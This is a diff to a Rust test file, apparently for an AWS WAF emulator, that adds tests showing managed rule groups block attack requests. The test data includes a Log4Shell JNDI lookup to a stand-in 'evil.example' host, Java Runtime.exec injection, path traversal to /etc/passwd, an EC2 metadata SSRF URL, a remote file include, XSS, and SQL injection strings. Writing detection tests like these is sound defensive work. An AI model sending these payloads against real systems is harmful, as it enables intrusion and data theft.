@@ -493,14 +493,14 @@ fn what_cannot_be_evaluated_or_is_malformed_is_refused() {
         json!([rule(
             "m",
             0,
-            json!({"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet"}}),
+            json!({"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesAnonymousIpList"}}),
             json!({"Block": {}})
         )]),
     );
     assert_eq!(e.code, "WAFInvalidParameterException");
     assert!(
         e.message
-            .contains("ManagedRuleGroupStatement is not supported"),
+            .contains("AWSManagedRulesAnonymousIpList is not supported"),
         "{e}"
     );
     let e = refused(
@@ -1136,4 +1136,218 @@ fn sqli_sensitivity_is_low_or_high() {
     )
     .unwrap_err();
     assert!(e.message.contains("textTransformations"), "{e}");
+}
+
+fn managed(name: &str, priority: u64, extra: Value) -> Value {
+    let mut statement = json!({"VendorName": "AWS", "Name": name});
+    if let (Some(map), Some(extra)) = (statement.as_object_mut(), extra.as_object()) {
+        map.extend(extra.clone());
+    }
+    json!({"Name": name, "Priority": priority, "OverrideAction": {"None": {}},
+           "Statement": {"ManagedRuleGroupStatement": statement},
+           "VisibilityConfig": {"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": name}})
+}
+
+#[test]
+fn aws_managed_rule_groups_block_what_their_rules_describe() {
+    let acl = compile(
+        json!({"Allow": {}}),
+        json!([
+            managed("AWSManagedRulesCommonRuleSet", 0, json!({"Version": "Version_1.12"})),
+            managed("AWSManagedRulesSQLiRuleSet", 1, json!({"ExcludedRules": [{"Name": "SQLi_COOKIE"}]})),
+            managed("AWSManagedRulesKnownBadInputsRuleSet", 2, json!({"RuleActionOverrides": [
+                {"Name": "Host_localhost_HEADER", "ActionToUse": {"Count": {}}}]})),
+            managed("AWSManagedRulesAdminProtectionRuleSet", 3, json!({"ScopeDownStatement": {"NotStatement": {"Statement":
+                {"ByteMatchStatement": {"SearchString": b64("yes"), "FieldToMatch": {"SingleHeader": {"Name": "x-from-vpn"}},
+                 "TextTransformations": [{"Priority": 0, "Type": "NONE"}], "PositionalConstraint": "EXACTLY"}}}}})),
+            rule("local", 4, json!({"LabelMatchStatement": {"Scope": "LABEL",
+                "Key": "awswaf:managed:aws:known-bad-inputs:Host_Localhost_Header"}}), json!({"Block": {}})),
+            rule("sqli-cookie-seen", 5, json!({"LabelMatchStatement": {"Scope": "LABEL",
+                "Key": "awswaf:managed:aws:sql-database:SQLi_Cookie"}}), json!({"Block": {}})),
+        ]),
+    )
+    .unwrap();
+    // The groups' declared capacities, and the scope-down statement's (a byte match).
+    assert_eq!(acl.capacity, 700 + 200 + 200 + 100 + 2 + 1 + 1);
+    let ua = ("user-agent", "Mozilla/5.0");
+    let get =
+        |path: &'static str, query: &'static str, headers: &[(&'static str, &'static str)]| {
+            let mut all = headers.to_vec();
+            if !headers.iter().any(|(name, _)| *name == "user-agent") {
+                all.push(ua);
+            }
+            decide(&acl, &request("192.0.2.1", "GET", path, query, &all))
+        };
+    assert_eq!(get("/prod/items", "page=2&q=blue%20shirt", &[]), None);
+    let long_query: &'static str = format!("q={}", "a".repeat(2_100)).leak();
+    for (path, query, headers, rule) in [
+        (
+            "/prod/items",
+            "a=1",
+            vec![("user-agent", "sqlmap/1.7")],
+            "UserAgent_BadBots_HEADER",
+        ),
+        (
+            "/prod/items",
+            long_query,
+            vec![],
+            "SizeRestrictions_QUERYSTRING",
+        ),
+        (
+            "/prod/items",
+            "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data",
+            vec![],
+            "EC2MetaDataSSRF_QUERYARGUMENTS",
+        ),
+        (
+            "/prod/..%2f..%2fetc/passwd",
+            "",
+            vec![],
+            "GenericLFI_URIPATH",
+        ),
+        (
+            "/prod/files",
+            "name=..%2F..%2Fsecret",
+            vec![],
+            "GenericLFI_QUERYARGUMENTS",
+        ),
+        (
+            "/prod/files",
+            "name=server.log",
+            vec![],
+            "RestrictedExtensions_QUERYARGUMENTS",
+        ),
+        (
+            "/prod/page",
+            "inc=http%3A%2F%2F10.1.2.3%2Fshell",
+            vec![],
+            "GenericRFI_QUERYARGUMENTS",
+        ),
+        (
+            "/prod/search",
+            "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+            vec![],
+            "CrossSiteScripting_QUERYARGUMENTS",
+        ),
+        (
+            "/prod/items",
+            "id=1%27%20or%20%271%27%3D%271",
+            vec![],
+            "SQLi_QUERYARGUMENTS",
+        ),
+        (
+            "/prod/items",
+            "id=1%20or%201",
+            vec![],
+            "SQLiExtendedPatterns_QUERYARGUMENTS",
+        ),
+        (
+            "/prod/items",
+            "",
+            vec![("x-api-version", "${jndi:ldap://evil.example/a}")],
+            "Log4JRCE_HEADER",
+        ),
+        (
+            "/prod/items",
+            "",
+            vec![("x-debug", "(java.lang.Runtime).getRuntime().exec(\"id\")")],
+            "JavaDeserializationRCE_HEADER",
+        ),
+        (
+            "/prod/WEB-INF/web.xml",
+            "",
+            vec![],
+            "ExploitablePaths_URIPATH",
+        ),
+        ("/prod/admin/users", "", vec![], "AdminProtection_URIPATH"),
+        // Counted by the override: the label decides, in the web ACL's next rule.
+        ("/prod/items", "", vec![("host", "localhost:4566")], "local"),
+        // An excluded rule counts and labels.
+        (
+            "/prod/items",
+            "",
+            vec![("cookie", "session=x' or '1'='1")],
+            "sqli-cookie-seen",
+        ),
+    ] {
+        let headers: Vec<(&'static str, &'static str)> = headers;
+        assert_eq!(
+            get(path, query, &headers).as_deref(),
+            Some(rule),
+            "{path}?{query} {headers:?}"
+        );
+    }
+    // No User-Agent header at all.
+    assert_eq!(
+        decide(&acl, &request("192.0.2.1", "GET", "/prod/items", "", &[])).as_deref(),
+        Some("NoUserAgent_HEADER")
+    );
+    assert_eq!(
+        decide(
+            &acl,
+            &request("192.0.2.1", "PROPFIND", "/prod/items", "", &[ua])
+        )
+        .as_deref(),
+        Some("PROPFIND_METHOD")
+    );
+    // Out of the admin group's scope.
+    assert_eq!(get("/prod/admin/users", "", &[("x-from-vpn", "yes")]), None);
+    let post = |body: &'static str| {
+        decide(
+            &acl,
+            &with_body(request("192.0.2.1", "POST", "/prod/items", "", &[ua]), body),
+        )
+    };
+    assert_eq!(
+        post(r#"{"bio": "<img src=x onerror=alert(1)>"}"#).as_deref(),
+        Some("CrossSiteScripting_BODY")
+    );
+    assert_eq!(post(r#"{"name": "Ann O'Neil", "note": "gift wrap"}"#), None);
+    let large: &'static str = "x".repeat(9_000).leak();
+    assert_eq!(post(large).as_deref(), Some("SizeRestrictions_BODY"));
+}
+
+#[test]
+fn managed_rule_groups_this_server_cannot_render_are_refused() {
+    let refused = |statement: Value| {
+        compile(
+            json!({"Allow": {}}),
+            json!([{"Name": "m", "Priority": 0, "OverrideAction": {"None": {}},
+                    "Statement": {"ManagedRuleGroupStatement": statement},
+                    "VisibilityConfig": {"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": "m"}}]),
+        )
+        .unwrap_err()
+    };
+    let e = refused(json!({"VendorName": "AWS", "Name": "AWSManagedRulesAmazonIpReputationList"}));
+    assert_eq!(e.code, "WAFInvalidParameterException");
+    assert!(
+        e.message
+            .contains("AWSManagedRulesAmazonIpReputationList is not supported"),
+        "{e}"
+    );
+    for statement in [
+        json!({"VendorName": "AWS", "Name": "AWSManagedRulesNoSuchGroup"}),
+        json!({"VendorName": "Acme", "Name": "AWSManagedRulesCommonRuleSet"}),
+        json!({"VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet", "Version": "latest"}),
+    ] {
+        assert_eq!(refused(statement).code, "WAFNonexistentItemException");
+    }
+    let e = refused(
+        json!({"VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet",
+        "ManagedRuleGroupConfigs": [{"LoginPath": "/login"}]}),
+    );
+    assert!(e.message.contains("ManagedRuleGroupConfigs"), "{e}");
+    // Only a rule's whole statement, as a rule group reference.
+    let e = compile(
+        json!({"Allow": {}}),
+        json!([rule(
+            "n",
+            0,
+            json!({"NotStatement": {"Statement": {"ManagedRuleGroupStatement":
+            {"VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet"}}}}),
+            json!({"Block": {}})
+        )]),
+    )
+    .unwrap_err();
+    assert_eq!(e.code, "WAFInvalidParameterException");
 }
